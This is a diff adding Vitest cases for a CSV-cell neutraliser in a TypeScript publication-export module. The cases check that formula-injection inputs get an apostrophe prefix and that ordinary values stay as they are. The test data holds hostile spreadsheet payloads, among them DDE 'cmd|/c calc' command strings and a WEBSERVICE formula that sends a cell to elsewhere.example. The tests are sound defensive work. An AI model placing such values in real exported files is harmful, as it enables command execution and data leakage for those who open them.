@@ -1,5 +1,6 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { neutral } from '#domain/csv.ts';
 import { type TakeAwayWords, takeAwayFiles } from '#domain/publication/take-away/files.ts';
 import type { LogLine } from '#domain/publication/take-away/log.ts';
 import { atomFaults, atoms, deleted, links, parseXml } from '#tests/support/atom.ts';
@@ -152,6 +153,22 @@ describe('what is taken away as a whole', () => {
       ],
     });
   });
+
+  it.each([
+    '=1+1',
+    '\u00a0@SUM(A1)',
+    '-2+3+cmd|/c!A0',
+    '- WEBSERVICE("https://elsewhere.example/?"&A2)',
+    '- cmd|"/c calc"!A0',
+    "- 'https://elsewhere.example/[a.xlsx]b'!A1",
+    '\t+1x',
+  ])('puts an apostrophe before %j', (cell) => {
+    expect(neutral(cell)).toBe(`'${cell}`);
+  });
+  it.each(['-1,204', '+44 20 7946 0000', '-£12.50', '- 4.5 %', '-', '--', '- not held', '- of which: under 18', 'a=b'])(
+    'leaves %j as it is',
+    (cell) => expect(neutral(cell)).toBe(cell),
+  );
 
   const day = fc.constantFrom('2024-01-31', '2025-12-30', '2026-01-05', '2026-01-06', '2026-03-01');
   const reference = fc.constantFrom('01', '02', '03', '04');
